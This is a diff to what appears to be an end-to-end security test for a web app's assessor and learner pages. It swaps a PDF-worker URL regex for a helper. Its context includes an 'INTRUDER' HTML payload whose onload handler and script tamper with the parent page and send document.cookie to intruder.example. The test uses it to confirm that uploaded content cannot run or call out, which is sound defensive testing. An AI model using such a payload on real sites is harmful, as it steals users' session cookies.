@@ -4,6 +4,7 @@ import { Assessor } from "./pages/assessor.mjs";
 import { Learner } from "./pages/learner.mjs";
 import * as files from "./support/files.mjs";
 import { expect, test } from "./support/test.mjs";
+import { isOfReader } from "./support/traffic.mjs";
 
 const INTRUDER = `<html><body onload="parent.document.documentElement.dataset.intruder='ran'">
 <script>top.document.documentElement.dataset.intruder = "ran"; fetch("https://intruder.example/" + document.cookie)</script>
@@ -92,7 +93,7 @@ test("the assessor sees pictures, PDF, sound and text in place, and nothing is a
   });
   await expect(page.locator("html")).not.toHaveAttribute("data-intruder");
   // What draws PDF files is the one part of the page that comes when it is first needed.
-  const isOfPage = (url) => url.startsWith("blob:") || /\/pdf-[\d.]+\/pdf(\.worker)?\.js$/.test(url);
+  const isOfPage = (url) => url.startsWith("blob:") || isOfReader(url);
   const asked = (await traffic.afterLoaded(page)).filter((url) => !isOfPage(url));
   expect(asked).toEqual([]);
   expect(traffic.requests.filter((url) => !url.startsWith(baseURL))).toEqual([]);
